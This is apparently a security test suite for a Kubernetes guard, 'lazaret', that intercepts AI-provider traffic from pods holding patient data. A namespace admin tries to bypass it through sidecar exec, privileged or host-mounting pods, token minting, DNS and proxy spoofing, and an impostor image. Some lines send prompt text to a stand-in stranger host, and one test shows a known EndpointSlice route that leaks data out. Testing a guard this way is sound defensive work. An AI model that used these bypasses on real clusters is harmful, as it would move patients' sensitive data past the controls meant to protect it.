// What somebody can try from outside who may do everything in the guarded namespace, and nothing beyond it: a user with the ClusterRole
// `admin` there, and the right to start debug containers and to resize, which that role lacks.
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { loadImageAs } from './bypass-image.ts';
import {
  ATTACKER,
  identityOf,
  modelRequest,
  probe,
  PROMPT,
  ROOT_IMAGE,
  setStage,
  shell,
  type Stage,
} from './bypass-stage.ts';
import { CLIENTS } from './place.ts';
import type { CommandResult } from './run-command.ts';
import { applyYaml, BASE_IMAGE, getObject, kubectl, PLACE, tryKubectl } from './test-cluster.ts';
import { waitFor } from './wait-for.ts';

const MALLORY = 'mallory';
let stage: Stage;

beforeAll(async () => {
  stage = await setStage();
  await applyYaml(
    rightsOf(stage.clinic, stage.outside)
      .map((object) => stringify(object))
      .join('---\n'),
  );
});
afterAll(() => stage?.leave());

/** The same person is admin of the helper's namespace too. */
function rightsOf(clinic: string, outside: string): readonly object[] {
  const apiGroup = 'rbac.authorization.k8s.io';
  const binding = (name: string, namespace: string, roleRef: object) => ({
    apiVersion: `${apiGroup}/v1`,
    kind: 'RoleBinding',
    metadata: { name, namespace },
    roleRef: { apiGroup, ...roleRef },
    subjects: [{ apiGroup, kind: 'User', name: MALLORY }],
  });
  const resources = ['pods/ephemeralcontainers', 'pods/resize'];
  const rules = [{ apiGroups: [''], resources, verbs: ['get', 'update', 'patch'] }];
  return [
    { apiVersion: `${apiGroup}/v1`, kind: 'Role', metadata: { name: 'debug', namespace: clinic }, rules },
    binding('debug', clinic, { kind: 'Role', name: 'debug' }),
    ...[clinic, outside].map((it) => binding('admin', it, { kind: 'ClusterRole', name: 'admin' })),
  ];
}

function mallory(args: readonly string[], input?: string, namespace = stage.clinic): Promise<CommandResult> {
  const split = args.indexOf('--');
  const who = [`--as=${MALLORY}`, `--namespace=${namespace}`];
  const all = split < 0 ? [...args, ...who] : [...args.slice(0, split), ...who, ...args.slice(split)];
  return tryKubectl(all, input === undefined ? {} : { input });
}

async function denial(args: readonly string[], input?: string): Promise<string> {
  const { status, stdout, stderr } = await mallory(args, input);
  return status === 0 ? `was let through: ${stdout}` : stderr;
}

describe('Into a container of the guard', () => {
  it.each([
    ['exec', ['exec', ATTACKER, '--container=lazaret-sidecar', '--', 'id']],
    ['exec into lazaret-init', ['exec', ATTACKER, '--container=lazaret-init', '--', 'id']],
    ['attach', ['attach', ATTACKER, '--container=lazaret-sidecar']],
    ['cp', ['cp', `${ATTACKER}:/run/lazaret/ca`, '/tmp/nothing', '--container=lazaret-sidecar']],
  ])('%s is denied', async (_, args) => {
    expect(await denial(args)).toMatch(/B-18 container: it would run a program under the uid/);
  });

  it('an annotation that makes it the default container opens nothing', async () => {
    const annotation = 'kubectl.kubernetes.io/default-container=lazaret-sidecar';
    expect((await mallory(['annotate', 'pod', ATTACKER, annotation, '--overwrite'])).status).toBe(0);
    expect(await denial(['exec', ATTACKER, '--', 'id'])).toContain('B-18');
  });

  it('an application’s own container stays open', async () => {
    const { stdout } = await mallory(['exec', ATTACKER, '--container=app', '--', 'id', '-u']);
    expect(stdout.trim()).toBe('1000');
  });

  it('port-forward to the interception port leads nowhere, and to the open one to numbers', async () => {
    expect(await forward(15_001, modelRequest('api.openai.com'))).toBe('');
    const metrics = await forward(15_020, 'GET /metrics HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n');
    expect(metrics).toContain('HTTP/1.1 200');
    expect(metrics).not.toMatch(/Gonzalez|sk-ant|BEGIN/);
  });

  it('the API server’s proxy does not reach the interception port', async () => {
    const path = `/api/v1/namespaces/${stage.clinic}/pods/${ATTACKER}:15001/proxy/`;
    expect(await denial(['get', '--raw', path])).toMatch(/connection refused|error trying to reach service/);
  });
});

/** What the guarded pod's port says to some bytes. */
async function forward(port: number, send: string): Promise<string> {
  const args = ['port-forward', `pod/${ATTACKER}`, `:${port}`, `--as=${MALLORY}`, `--namespace=${stage.clinic}`];
  const child = spawn(join(CLIENTS, 'kubectl'), args, {
    env: { ...process.env, KUBECONFIG: PLACE.kubeconfig },
    stdio: ['ignore', 'pipe', 'ignore'],
  });
  try {
    const [line]: readonly unknown[] = await once(child.stdout, 'data');
    const local = Number(/127\.0\.0\.1:(\d+)/.exec(String(line))?.[1]);
    return await new Promise((resolve) => {
      let said = '';
      const socket = connect({ host: '127.0.0.1', port: local }, () => socket.write(send));
      socket.on('data', (bytes: Buffer) => (said += bytes.toString('latin1')));
      socket.on('error', () => undefined);
      socket.once('close', () => resolve(said));
    });
  } finally {
    child.kill('SIGKILL');
  }
}

describe('A debug container', () => {
  const debug = (...options: readonly string[]) => [
    'debug',
    ATTACKER,
    `--image=${BASE_IMAGE}`,
    '--image-pull-policy=IfNotPresent',
    ...options,
  ];

  it.each([
    ['that looks into the guard', ['--target=lazaret-sidecar', '--profile=restricted'], 'B-29'],
    ['with the profile sysadmin', ['--target=app', '--profile=sysadmin'], 'B-05'],
    ['with the profile netadmin', ['--target=app', '--profile=netadmin'], 'B-05'],
    ['with the profile general', ['--target=app', '--profile=general'], 'B-05'],
  ])('%s is denied', async (_, options, rule) => {
    expect(await denial([...debug(...options), '--', 'sleep', '1'])).toContain(`${rule} spec.ephemeralContainers`);
  });

  const copy = (...options: readonly string[]) => debug('--copy-to=copy', '--container=x', ...options);

  it('in a copy of the pod with shared processes is denied, although kubectl leaves the PHI label out', async () => {
    expect(await denial([...copy('--share-processes'), '--', 'sleep', '1'])).toContain(
      'B-07 spec.shareProcessNamespace',
    );
  });

  it('in a copy of the pod runs beside a guard of its own', async () => {
    const { status, stderr } = await mallory([...copy('--share-processes=false'), '--', 'sleep', '1']);
    expect([status, stderr]).toEqual([0, expect.stringContaining('it is labelled and guarded anew')]);
    const made = await getObject(['pod', 'copy', `--namespace=${stage.clinic}`]);
    expect(made['metadata']).toHaveProperty(['labels', 'lazaret.dev/phi'], 'true');
    const [mine, its] = await Promise.all([identityOf(stage), identityOf(stage, 'copy')]);
    expect(its).not.toEqual(mine);
    const debugCopy = ['debug', 'copy', `--image=${BASE_IMAGE}`, '--container=y', '--profile=sysadmin'];
    expect(await denial([...debugCopy, '--', 'sleep', '1'])).toContain('B-05 spec.ephemeralContainers');
    await kubectl(['delete', 'pod', 'copy', `--namespace=${stage.clinic}`, '--force']);
  });

  it('with the profile restricted runs, and meets the same guard', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'debug-'));
    try {
      const custom = join(folder, 'custom.json');
      await writeFile(custom, '{"securityContext":{"runAsUser":1234}}');
      const ask = `const to = (u) => fetch(u, { method: 'POST', body: '{}' }).then((r) => r.headers.get('x-lazaret-reason'), (e) => e.cause.code);
        Promise.all(['https://api.openai.com/v1/chat/completions', 'https://stranger.example.net/'].map(to)).then((all) => console.log(all.join(' ')))`;
      const options = ['--profile=restricted', `--custom=${custom}`, '--container=looker', '--target=app'];
      const { status, stderr } = await mallory([...debug(...options), '--', 'node', '-e', ask]);
      expect([status, stderr]).toEqual([0, expect.not.stringContaining('denied')]);
      const said = await waitFor('the debug container', async () => {
        const { stdout } = await mallory(['logs', ATTACKER, '--container=looker']);
        return stdout.includes('\n') ? stdout : null;
      });
      expect(said.trim()).toBe('agreement_missing ERR_SSL_TLSV1_ALERT_ACCESS_DENIED');
    } finally {
      await rm(folder, { recursive: true });
    }
  });
});

describe('An edit', () => {
  it.each([
    ['of the PHI label', ['label', 'pod', ATTACKER, 'lazaret.dev/phi=false', '--overwrite'], 'B-10'],
    ['that takes the PHI label away', ['label', 'pod', ATTACKER, 'lazaret.dev/phi-'], 'B-10'],
    ['of the mark', ['annotate', 'pod', ATTACKER, 'lazaret.dev/mark-'], 'B-10'],
    ['that makes a hole', ['annotate', 'pod', ATTACKER, 'lazaret.dev/exclude-ports=443'], 'B-10'],
    ['of the guard’s image', ['set', 'image', `pod/${ATTACKER}`, `lazaret-sidecar=${BASE_IMAGE}`], 'B-10'],
    ['of lazaret-init’s image', ['set', 'image', `pod/${ATTACKER}`, `lazaret-init=${BASE_IMAGE}`], 'B-10'],
    [
      'of the guard’s memory',
      [
        'patch',
        'pod',
        ATTACKER,
        '--subresource=resize',
        '--patch={"spec":{"initContainers":[{"name":"lazaret-sidecar","resources":{"limits":{"memory":"1Gi"}}}]}}',
      ],
      'B-26',
    ],
  ])('%s is denied', async (_, args, rule) => {
    expect(await denial(args)).toContain(rule);
  });

  it.each([
    ['the namespace’s label', ['label', 'namespace', 'NAMESPACE', 'lazaret.dev/guard-']],
    ['the namespace itself', ['delete', 'namespace', 'NAMESPACE', '--wait=false']],
    ['an agreement', ['delete', 'provideragreements', '--all']],
    ['an exemption', ['create', '--filename=-']],
    ['the webhooks', ['delete', 'mutatingwebhookconfiguration', 'lazaret']],
    ['the policies', ['delete', 'validatingadmissionpolicy', 'lazaret-pods']],
    ['the policies’ parameters', ['delete', 'policyparameters', 'lazaret-exemptions', '-n', 'lazaret']],
    ['the release’s keys', ['get', 'secret', 'lazaret-keys', '-n', 'lazaret']],
    ['an endpoint outside the cluster', ['create', 'endpoints', 'x']],
  ])('of %s is not his to make', async (what, args) => {
    if (what === 'an endpoint outside the cluster') {
      for (const resource of ['endpoints', 'endpointslices.discovery.k8s.io'])
        expect((await mallory(['auth', 'can-i', 'create', resource])).stdout.trim()).toBe('no');
      return;
    }
    const filled = args.map((it) => it.replace('NAMESPACE', stage.clinic));
    const split = filled.indexOf('-n');
    const [own, namespace] = split < 0 ? [filled, undefined] : [filled.slice(0, split), filled[split + 1]];
    const { status, stderr } = await mallory(own, stringify(EXEMPTION), namespace);
    expect([status, stderr]).toEqual([1, expect.stringMatching(/forbidden: User "mallory" cannot/)]);
  });

  it('of the namespace’s label by somebody who may edit namespaces is denied too', async () => {
    const rules = [{ apiGroups: [''], resources: ['namespaces'], verbs: ['get', 'update', 'patch'] }];
    const name = `relabel-${stage.clinic}`;
    const apiGroup = 'rbac.authorization.k8s.io';
    const subjects = [{ apiGroup, kind: 'User', name: MALLORY }];
    const role = { apiVersion: `${apiGroup}/v1`, kind: 'ClusterRole', metadata: { name }, rules };
    const roleRef = { apiGroup, kind: 'ClusterRole', name };
    const binding = { apiVersion: `${apiGroup}/v1`, kind: 'ClusterRoleBinding', metadata: { name }, roleRef, subjects };
    await applyYaml(`${stringify(role)}---\n${stringify(binding)}`);
    try {
      for (const [label, rule] of [
        ['lazaret.dev/guard-', 'B-11'],
        ['lazaret.dev/guard=off', 'ADM-22'],
      ] as const)
        expect(await denial(['label', 'namespace', stage.clinic, label, '--overwrite'])).toContain(rule);
    } finally {
      await kubectl(['delete', 'clusterrole,clusterrolebinding', name]);
    }
  });
});

const EXEMPTION = {
  apiVersion: 'lazaret.dev/v1alpha1',
  kind: 'GuardExemption',
  metadata: { name: 'mine' },
  spec: {
    reason: 'because',
    approvedBy: 'me',
    from: '2026-01-01',
    until: '2026-01-02',
    namespaces: ['clinic'],
    grant: { monitor: true },
  },
};

interface PodChange {
  readonly labels?: object;
  readonly annotations?: object;
  readonly spec?: object;
  readonly container?: object;
}

function pod({ labels, annotations, spec, container }: PodChange = {}): string {
  return JSON.stringify({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      name: 'second',
      namespace: stage.clinic,
      labels: { 'lazaret.dev/phi': 'true', ...labels },
      annotations: { ...annotations },
    },
    spec: { containers: [{ name: 'app', image: BASE_IMAGE, command: ['sleep', '1'], ...container }], ...spec },
  });
}

const OUR_TOKEN = { projected: { sources: [{ serviceAccountToken: { audience: 'lazaret.dev', path: 'token' } }] } };

const PODS: readonly (readonly [what: string, change: PodChange, rule: string])[] = [
  ['that shares its processes', { spec: { shareProcessNamespace: true } }, 'B-07'],
  ['in the node’s network', { spec: { hostNetwork: true } }, 'B-06'],
  ['that sees the node’s processes', { spec: { hostPID: true } }, 'B-07'],
  [
    'that mounts other pods’ volumes from the node',
    { spec: { volumes: [{ name: 'pods', hostPath: { path: '/var/lib/kubelet/pods' } }] } },
    'B-07',
  ],
  [
    'that mounts what the guard’s container mounts',
    { container: { volumeMounts: [{ name: 'lazaret-ca', mountPath: '/key' }] } },
    'B-12',
  ],
  ['with a token for the guard’s audience', { spec: { volumes: [{ name: 'mine', ...OUR_TOKEN }] } }, 'B-32'],
  [
    'with a container of the guard’s name',
    { spec: { containers: [{ name: 'lazaret-sidecar', image: BASE_IMAGE }] } },
    'B-08',
  ],
  ['that is privileged', { container: { securityContext: { privileged: true } } }, 'B-05'],
  ['that may send raw packets', { container: { securityContext: { capabilities: { add: ['NET_RAW'] } } } }, 'B-05'],
  ['that may change its user', { container: { securityContext: { capabilities: { add: ['SETUID'] } } } }, 'B-04'],
  ['with an annotation that makes a hole', { annotations: { 'lazaret.dev/exclude-ports': '443' } }, 'B-15'],
  ['with a label that means nothing', { labels: { 'lazaret.dev/phi': 'yes' } }, 'ADM-22'],
  ['with a resolver of its own', { spec: { dnsPolicy: 'None', dnsConfig: { nameservers: ['10.1.1.1'] } } }, 'B-28'],
  ['with a name of its own', { spec: { hostAliases: [{ ip: '10.1.1.1', hostnames: ['api.openai.com'] }] } }, 'B-28'],
  ['behind a proxy', { container: { env: [{ name: 'HTTPS_PROXY', value: 'http://relay:3128' }] } }, 'B-38'],
  ['on the guard’s port', { container: { ports: [{ containerPort: 15_001 }] } }, 'B-30'],
];

describe('A second pod', () => {
  it.each(PODS)('%s is denied', async (_, change, rule) => {
    const said = await denial(['create', '--dry-run=server', '--filename=-'], pod(change));
    expect(said).toMatch(new RegExp(`denied.*${rule} `, 's'));
  });

  it('that only looks as if it were guarded is guarded anew', async () => {
    const volumes = [{ name: 'lazaret-spool', persistentVolumeClaim: { claimName: 'mine' } }];
    const fake = { annotations: { 'lazaret.dev/mark': 'eyJ2IjoxfQ.AAAA' }, spec: { volumes } };
    const made = await mallory(['create', '--dry-run=server', '--output=json', '--filename=-'], pod(fake));
    const { spec } = JSON.parse(made.stdout) as { readonly spec: { readonly initContainers: readonly object[] } };
    expect(spec.initContainers).toMatchObject([{ name: 'lazaret-init' }, { name: 'lazaret-sidecar' }]);
    expect(made.stdout).not.toContain('persistentVolumeClaim"');
  });

  it('“Pods that nobody labelled”: in a namespace labelled `labelled` runs without a guard, as docs/limits.md says', async () => {
    const plain = pod().replace('"lazaret.dev/phi":"true"', '"a":"b"');
    const made = await mallory(['create', '--dry-run=server', '--output=json', '--filename=-'], plain);
    expect(made.status).toBe(0);
    expect(made.stdout).not.toContain('lazaret-sidecar');
  });
});

describe('Without the webhooks', () => {
  const KINDS = ['mutatingwebhookconfiguration', 'validatingwebhookconfiguration'] as const;

  it('a pod without a guard is denied by the policy, and a guarded one comes back with them', async () => {
    const saved = await Promise.all(KINDS.map((kind) => getObject([kind, 'lazaret'])));
    const create = () => mallory(['create', '--dry-run=server', '--filename=-'], pod());
    try {
      for (const kind of KINDS) await kubectl(['delete', kind, 'lazaret']);
      const said = await waitFor('a denial without the webhooks', async () => {
        const { status, stderr } = await create();
        return status !== 0 && stderr.includes('ValidatingAdmissionPolicy') ? stderr : null;
      });
      expect(said).toMatch(/ValidatingAdmissionPolicy 'lazaret-pods'.* denied request: (ADM|B)-\d\d /s);
    } finally {
      await applyAsHelm(saved);
    }
    await waitFor('the webhooks', async () => ((await create()).status === 0 ? true : null));
  });
});

/** As Helm wrote it, so that Helm's next upgrade meets its own work; the controller writes the authority again. */
async function applyAsHelm(objects: readonly Readonly<Record<string, unknown>>[]): Promise<void> {
  for (const { metadata, webhooks, ...rest } of objects) {
    const { name, labels, annotations } = metadata as Readonly<Record<string, unknown>>;
    const bare = (webhooks as readonly { readonly clientConfig: object }[]).map((webhook) => ({
      ...webhook,
      clientConfig: { ...webhook.clientConfig, caBundle: undefined },
    }));
    const input = JSON.stringify({ ...rest, metadata: { name, labels, annotations }, webhooks: bare });
    await kubectl(['apply', '--server-side', '--force-conflicts', '--field-manager=helm', '--filename=-'], { input });
  }
}

describe('The proof of a pod', () => {
  const token = (...options: readonly string[]) => ['create', 'token', 'default', ...options];
  const bound = ['--bound-object-kind=Pod', `--bound-object-name=${ATTACKER}`];

  it.each([
    ['bound to a guarded pod', ['--audience=lazaret.dev', ...bound]],
    ['bound to nothing', ['--audience=lazaret.dev']],
    ['beside another audience', ['--audience=https://other.example', '--audience=lazaret.dev', ...bound]],
  ])('cannot be had by asking for a token %s', async (_, options) => {
    expect(await denial(token(...options))).toMatch(/'lazaret-tokens'.*B-32 spec\.audiences: .*only the kubelet/s);
  });

  it('cannot be had by the administrator of the cluster or by the service account either', async () => {
    for (const who of ['kubernetes-admin', `system:serviceaccount:${stage.clinic}:default`, 'system:node:node-1']) {
      const args = [...token('--audience=lazaret.dev', ...bound), `--namespace=${stage.clinic}`, `--as=${who}`];
      const { status, stderr } = await tryKubectl([...args, '--as-group=system:masters']);
      expect([status, stderr]).toEqual([1, expect.stringContaining('B-32')]);
    }
  });

  it('is no token for another audience: the controller gives no bundle, the collector enrols nobody', async () => {
    const { stdout } = await mallory(token(...bound));
    expect(await statusFrom('lazaret-controller:8444/v1/bundle', stdout.trim())).toBe(401);
    expect(await statusFrom('lazaret-collector:8443/v1/expected', stdout.trim())).toBe(403);
  });

  /** Asked from inside the guarded pod, whose connections to private addresses pass. */
  async function statusFrom(where: string, bearer: string): Promise<number> {
    const [service = '', rest = ''] = where.split(':');
    const url = `https://${service}.lazaret.svc.cluster.local:${rest}`;
    const ask = `fetch('${url}', { headers: { authorization: 'Bearer ${bearer}' } }).then((r) => console.log(r.status), (e) => console.log(e.cause))`;
    const { said } = await shell(stage, `NODE_TLS_REJECT_UNAUTHORIZED=0 node --no-warnings -e "${ask}"`);
    return Number(said.trim());
  }
});

describe('“An image that runs as the guard”', () => {
  const HELD_MS = 15_000;

  it('cannot be put in the place of the application’s, nor started as a debug container', async () => {
    expect(await denial(['set', 'image', `pod/${ATTACKER}`, `root=${BASE_IMAGE}`])).toMatch(
      /B-03 spec\.containers\[1\]\.image: /,
    );
    expect((await mallory(['set', 'image', `pod/${ATTACKER}`, `app=${BASE_IMAGE}`])).status).toBe(0);
    const { uid, gid } = await identityOf(stage);
    const image = 'localhost/bypass-debug:test';
    await loadImageAs(image, uid, gid);
    const debug = ['debug', ATTACKER, `--image=${image}`, '--image-pull-policy=Never', '--container=guest'];
    const { status, stderr } = await mallory([...debug, '--profile=restricted', '--', 'id']);
    expect([status, stderr]).toEqual([0, expect.not.stringContaining('denied')]);
    const said = await waitFor('the debug container', async () => {
      const { stdout } = await mallory(['logs', ATTACKER, '--container=guest']);
      return stdout.includes('\n') ? stdout : null;
    });
    expect(said).toMatch(new RegExp(`^uid=${uid}(\\(\\w+\\))? gid=65534`));
  });

  it('under the tag of the application’s, as docs/limits.md says: is not redirected; the guard sees its sockets and refuses everything until they are gone', async () => {
    const { uid, gid } = await identityOf(stage);
    await loadImageAs(ROOT_IMAGE, uid, gid);
    await shell(stage, 'kill 1', 'root');
    await waitFor('the impostor', async () => {
      const { said } = await shell(stage, 'id', 'root');
      return said.includes(`uid=${uid}`) && said.includes(`gid=${gid}`) ? true : null;
    });
    const hold = `const s = require('net').connect(3128, '${stage.stranger.address}', () => s.write('${PROMPT}')); setTimeout(() => process.exit(), ${HELD_MS})`;
    const held = shell(stage, `node -e "${hold}"`, 'root');
    await waitFor('the stranger to get it', async () => (stage.stranger.taken.at(-1)?.includes(PROMPT) ? true : null));
    const send = modelRequest('api.anthropic.com');
    const { address: host } = stage.product.provider;
    const step = { do: 'tls', host, port: 443, name: 'api.anthropic.com', send } as const;
    const ask = async () => (await probe(stage, [step]))[0]?.text ?? '';
    const refused = await waitFor('a refusal', async () => {
      const text = await ask();
      return text.startsWith('HTTP/1.1 503') ? text : null;
    });
    expect(refused).toContain('x-lazaret-reason: internal_error');
    await held;
    await waitFor('an answer', async () => ((await ask()).startsWith('HTTP/1.1 200') ? true : null));
  });
});

describe('A Service', () => {
  const text = `\x01\x02${PROMPT}`;
  const service = (namespace: string, name: string, spec: object) => ({
    apiVersion: 'v1',
    kind: 'Service',
    metadata: { name, namespace },
    spec,
  });

  it('that takes a provider’s address for itself gets nothing, because it is not the provider', async () => {
    const { address } = stage.product.provider;
    const spec = { selector: { app: 'relay' }, ports: [{ port: 443 }], externalIPs: [address] };
    const made = await mallory(
      ['apply', '--filename=-'],
      stringify(service(stage.outside, 'thief', spec)),
      stage.outside,
    );
    expect(made.status).toBe(0);
    const told = (await stage.told()).length;
    const send = modelRequest('api.anthropic.com');
    const reason = 'upstream_unreachable';
    const step = { do: 'tls', host: address, port: 443, name: 'api.anthropic.com', send } as const;
    try {
      const text = await waitFor('the node to take the address over', async () => {
        // A connection that the guard keeps would still lead to the provider.
        stage.product.provider.hangUp();
        const [met] = await probe(stage, [step]);
        return met?.reasons[reason] === undefined ? null : met.text;
      });
      expect(text).toContain(`x-lazaret-reason: ${reason}`);
      expect((await stage.told()).length).toBe(told);
    } finally {
      await kubectl(['delete', 'service', 'thief', `--namespace=${stage.outside}`]);
    }
    await waitFor('the provider', async () => ((await probe(stage, [step]))[0]?.text.includes('200') ? true : null));
  });

  it('that is another name for a stranger’s is judged by where it leads', async () => {
    const spec = { type: 'ExternalName', externalName: 'stranger.example.net' };
    expect((await mallory(['apply', '--filename=-'], stringify(service(stage.clinic, 'alias', spec)))).status).toBe(0);
    const host = `alias.${stage.clinic}.svc.cluster.local`;
    const send = `GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
    const reason = 'destination_not_allowed';
    const taken = stage.stranger.taken.length;
    const [met] = await probe(stage, [{ do: 'tcp', host, port: 80, send, reason }]);
    expect(met?.text).toContain(`x-lazaret-reason: ${reason}`);
    expect(stage.stranger.taken.length).toBe(taken);
  });

  it('“Private addresses that lead out”: with endpoints outside the cluster carries text out, as docs/limits.md says', async () => {
    const slice = {
      apiVersion: 'discovery.k8s.io/v1',
      kind: 'EndpointSlice',
      metadata: { name: 'out-1', namespace: stage.clinic, labels: { 'kubernetes.io/service-name': 'out' } },
      addressType: 'IPv4',
      endpoints: [{ addresses: [stage.stranger.address] }],
      ports: [{ name: '', port: 3128, protocol: 'TCP' }],
    };
    const made = service(stage.clinic, 'out', { ports: [{ port: 9000, targetPort: 3128 }] });
    await applyYaml(`${stringify(made)}---\n${stringify(slice)}`);
    const host = `out.${stage.clinic}.svc.cluster.local`;
    await waitFor('the way out', async () => {
      const [met] = await probe(stage, [{ do: 'tcp', host, port: 9000, send: text }]);
      return met?.text === 'taken' ? true : null;
    });
    expect(stage.stranger.taken.at(-1)).toContain(PROMPT);
    await kubectl(['delete', 'service', 'out', `--namespace=${stage.clinic}`]);
  });
});
